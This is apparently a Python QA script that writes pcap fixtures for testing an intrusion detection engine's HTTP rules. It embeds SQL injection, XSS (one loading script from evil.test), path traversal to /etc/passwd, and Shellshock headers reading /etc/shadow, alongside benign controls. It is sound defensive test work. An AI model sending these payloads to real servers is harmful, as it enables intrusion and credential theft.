#!/usr/bin/env python3
"""mkpcap.py — writes the HTTP traces of crafted cases in qa/cases (web-*, anomaly-applayer-http).

Each trace is a series of complete TCP conversations between a client and a web server on
Ethernet/IPv4: three-way handshake, the request (in one or more segments), the server's ACK,
the response, the client's ACK, then FIN/ACK from the client, FIN/ACK from the server and the
last ACK. Sequence and acknowledgement numbers, IPv4 header checksums and TCP checksums are
computed, so a reader that verifies them (tshark, aegis with checksum-checks: yes) accepts every
packet. Timestamps, ports and initial sequence numbers are derived from the case and the
conversation index, so the output is byte-for-byte reproducible.

Built with the standard library only (struct); no scapy.

    python3 qa/tools/mkpcap.py            # (re)write every case under qa/cases
    python3 qa/tools/mkpcap.py --list     # print the cases and their requests
    python3 qa/tools/mkpcap.py --out DIR  # write DIR/<case>/input.pcap instead
"""

import argparse
import os
import struct
import sys

CLIENT_MAC = bytes.fromhex("020000000a01")
SERVER_MAC = bytes.fromhex("020000000b01")
CLIENT_IP = "10.10.1.20"   # in the default $HOME_NET as well, like the server
SERVER_IP = "10.20.0.80"
SERVER_PORT = 80
BASE_TIME = 1764000000     # 2025-11-24T16:00:00Z: fixed, so the traces never change
MSS = 1400                 # requests longer than this go out in several segments

TCP_FIN, TCP_SYN, TCP_RST, TCP_PSH, TCP_ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def ip_bytes(dotted):
    return bytes(int(x) for x in dotted.split("."))


def checksum(data):
    """RFC 1071 ones' complement sum of 16-bit words."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp_segment(src, dst, sport, dport, seq, ack, flags, payload, window=64240):
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                      5 << 4, flags, window, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(hdr) + len(payload))
    csum = checksum(pseudo + hdr + payload)
    return hdr[:16] + struct.pack("!H", csum) + hdr[18:] + payload


def ipv4_packet(src, dst, ident, l4):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), ident & 0xFFFF, 0x4000, 64, 6, 0,
                      src, dst)
    return hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:] + l4


def ethernet_frame(src_mac, dst_mac, ip):
    return dst_mac + src_mac + struct.pack("!H", 0x0800) + ip


class Trace:
    """Frames with their timestamps, written as a classic little-endian pcap (Ethernet)."""

    def __init__(self, start):
        self.frames = []
        self.usec = start * 1000000

    def add(self, frame, step_usec=200):
        self.usec += step_usec
        self.frames.append((self.usec, frame))

    def write(self, path):
        with open(path, "wb") as f:
            f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
            for usec, frame in self.frames:
                f.write(struct.pack("<IIII", usec // 1000000, usec % 1000000, len(frame),
                                    len(frame)))
                f.write(frame)


class Conversation:
    """One TCP connection; tracks both sides' next sequence numbers."""

    def __init__(self, trace, sport, isn_c, isn_s):
        self.t = trace
        self.sport = sport
        self.c_seq, self.s_seq = isn_c, isn_s
        self.ident_c, self.ident_s = sport * 7 & 0xFFFF, sport * 13 & 0xFFFF
        self.cip, self.sip = ip_bytes(CLIENT_IP), ip_bytes(SERVER_IP)

    def _client(self, flags, payload=b"", ack=None):
        seg = tcp_segment(self.cip, self.sip, self.sport, SERVER_PORT, self.c_seq,
                          self.s_seq if ack is None else ack, flags, payload)
        self.ident_c += 1
        self.t.add(ethernet_frame(CLIENT_MAC, SERVER_MAC,
                                  ipv4_packet(self.cip, self.sip, self.ident_c, seg)))
        self.c_seq += len(payload) + (1 if flags & (TCP_SYN | TCP_FIN) else 0)

    def _server(self, flags, payload=b""):
        seg = tcp_segment(self.sip, self.cip, SERVER_PORT, self.sport, self.s_seq, self.c_seq,
                          flags, payload)
        self.ident_s += 1
        self.t.add(ethernet_frame(SERVER_MAC, CLIENT_MAC,
                                  ipv4_packet(self.sip, self.cip, self.ident_s, seg)))
        self.s_seq += len(payload) + (1 if flags & (TCP_SYN | TCP_FIN) else 0)

    def run(self, request, response):
        self._client(TCP_SYN, ack=0)
        self._server(TCP_SYN | TCP_ACK)
        self._client(TCP_ACK)
        for off in range(0, len(request), MSS):
            self._client(TCP_PSH | TCP_ACK, request[off:off + MSS])
        self._server(TCP_ACK)
        self._server(TCP_PSH | TCP_ACK, response)
        self._client(TCP_ACK)
        self._client(TCP_FIN | TCP_ACK)
        self._server(TCP_FIN | TCP_ACK)
        self._client(TCP_ACK)


def http_get(uri, ua="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
             headers=()):
    lines = ["GET %s HTTP/1.1" % uri, "Host: shop.example.test", "User-Agent: %s" % ua,
             "Accept: */*"] + list(headers)
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def http_post(uri, body, ua="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 "
              "Firefox/128.0"):
    body = body.encode("latin-1")
    head = ["POST %s HTTP/1.1" % uri, "Host: shop.example.test", "User-Agent: %s" % ua,
            "Content-Type: application/x-www-form-urlencoded",
            "Content-Length: %d" % len(body)]
    return ("\r\n".join(head) + "\r\n\r\n").encode("latin-1") + body


def http_response(body=b"<html><body>ok</body></html>\n"):
    head = ("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\n"
            "Content-Length: %d\r\n\r\n" % len(body)).encode("latin-1")
    return head + body


# Each case: the requests of its conversations, in order (conversation i uses client port
# 40000 + 100 * case index + i). The comment says which rule each one is for; the last ones of a
# case are the benign requests its test.yaml says must not alert.
CASES = {
    "web-sqli": [
        http_get("/item.php?id=1+UNION+SELECT+username,password+FROM+users--"),   # 9001001
        http_get("/login.php?user=admin%27%20OR%201=1--&pass=x"),                   # 9001003
        http_get("/view.php?id=1%27%20or%20%271%27=%271"),                          # 9001009
        http_get("/search.php?q=1%20AND%20SLEEP(5)"),                               # 9001005
        http_get("/search.php?q=1%20AND%20BENCHMARK(5000000,MD5(1))"),              # 9001006
        http_get("/list.php?cat=1/**/union/**/all/**/select/**/table_name/**/from/**/"
                 "information_schema.tables"),                                       # 9001001+7
        http_post("/comment.php", "text=x' OR 1=1-- "),                             # 9001004
        # benign
        http_get("/jobs.php?q=selection+of+union+jobs&sleep=8h"),
        http_get("/schema/information.html?sort=price'asc"),
    ],
    "web-xss": [
        http_get("/search.php?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),  # 9001101
        http_get("/redirect.php?to=JavaScript:alert(1)"),                           # 9001103
        http_get("/profile.php?name=%3Cimg%20src=x%20onerror%20=alert(1)%3E"),      # 9001104
        http_post("/guestbook.php", "msg=<SCRIPT src=//evil.test/x.js></SCRIPT>"),  # 9001102
        http_post("/guestbook.php", "msg=<svg onerror=alert(1)>"),                  # 9001105
        # benign
        http_get("/docs/javascript-guide.html?onerror_count=0"),
        http_post("/guestbook.php", "msg=a+description+of+scripts"),
    ],
    "web-traversal": [
        http_get("/../../../../etc/passwd"),                                        # 9001204
        http_get("/download.php?file=../../../var/log/auth.log"),                   # 9001201
        http_get("/static/%2e%2e/%2E%2E/app/config.ini"),                           # 9001202
        http_get("/static/..%2f..%2fwindows/win.ini"),                              # 9001203
        # benign: dot segments the normalisation resolves inside the site
        http_get("/docs/v2/../v3/index.html"),
        http_get("/files/report..final.pdf"),
    ],
    "web-shellshock": [
        http_get("/cgi-bin/status", ua="() { :; }; /bin/bash -c 'cat /etc/shadow'"),  # 9001301
        http_get("/cgi-bin/test.cgi", headers=["Referer: () { _; } >_[$($())] { id; }"]),
        # benign: parentheses and braces, but no function definition
        http_get("/cgi-bin/status", headers=["X-Note: f() and {x}"]),
    ],
    "web-scanners": [
        http_get("/index.php?id=1", ua="sqlmap/1.8.4#stable (https://sqlmap.org)"),  # 9001401
        http_get("/", ua="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"),  # 9001402
        http_get("/", ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; "
                 "https://nmap.org/book/nse.html)"),                                # 9001403
        http_get("/", ua="masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
        http_get("/", ua="Mozilla/5.0 zgrab/0.x"),                                  # 9001405
        http_get("/admin", ua="gobuster/3.6"),                                      # 9001406
        http_get("/backup", ua="DirBuster-1.0-RC1 (http://www.owasp.org/index.php/"
                 "Category:OWASP_DirBuster_Project)"),                              # 9001407
        http_get("/wp-login.php", ua="WPScan v3.8.25 (https://wpscan.com/wordpress-security-"
                 "scanner)"),                                                       # 9001408
        # benign
        http_get("/", ua="curl/8.5.0"),
        http_get("/nmap-tutorial.html"),
    ],
    "anomaly-applayer-http": [
        # a request header line without a colon: the HTTP parser's
        # REQUEST_FIELD_MISSING_COLON (http.request_field_missing_colon)
        http_get("/index.html", headers=["X-Forwarded-Note this line has no colon"]),
        # a well-formed request: no anomaly
        http_get("/index.html"),
    ],
}
# The same conversations, read with anomaly.types.applayer: no.
CASES["anomaly-applayer-off"] = CASES["anomaly-applayer-http"]


def build(case_index, requests):
    trace = Trace(BASE_TIME + 3600 * case_index)
    for i, req in enumerate(requests):
        sport = 40000 + 100 * case_index + i
        isn_c = (0x1000_0000 + 0x0101_0101 * (case_index * 16 + i)) & 0xFFFFFFFF
        isn_s = (0x8000_0000 + 0x0303_0303 * (case_index * 16 + i)) & 0xFFFFFFFF
        Conversation(trace, sport, isn_c, isn_s).run(req, http_response())
        trace.usec += 100000  # 0.1 s between conversations
    return trace


def main(argv):
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    here = os.path.dirname(os.path.abspath(__file__))
    ap.add_argument("--out", default=os.path.join(here, "..", "cases"),
                    help="folder receiving <case>/input.pcap (default: qa/cases)")
    ap.add_argument("--list", action="store_true", help="print the requests of every case")
    ap.add_argument("cases", nargs="*", help="only these cases")
    args = ap.parse_args(argv)
    names = args.cases or list(CASES)
    for name in names:
        if name not in CASES:
            ap.error("unknown case %s (have: %s)" % (name, ", ".join(CASES)))
    for idx, name in enumerate(CASES):
        if name not in names:
            continue
        if args.list:
            for i, req in enumerate(CASES[name]):
                print("%s[%d] %s" % (name, i, req.split(b"\r\n")[0].decode("latin-1")))
            continue
        folder = os.path.join(args.out, name)
        os.makedirs(folder, exist_ok=True)
        path = os.path.join(folder, "input.pcap")
        build(idx, CASES[name]).write(path)
        print("wrote %s" % os.path.normpath(path))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
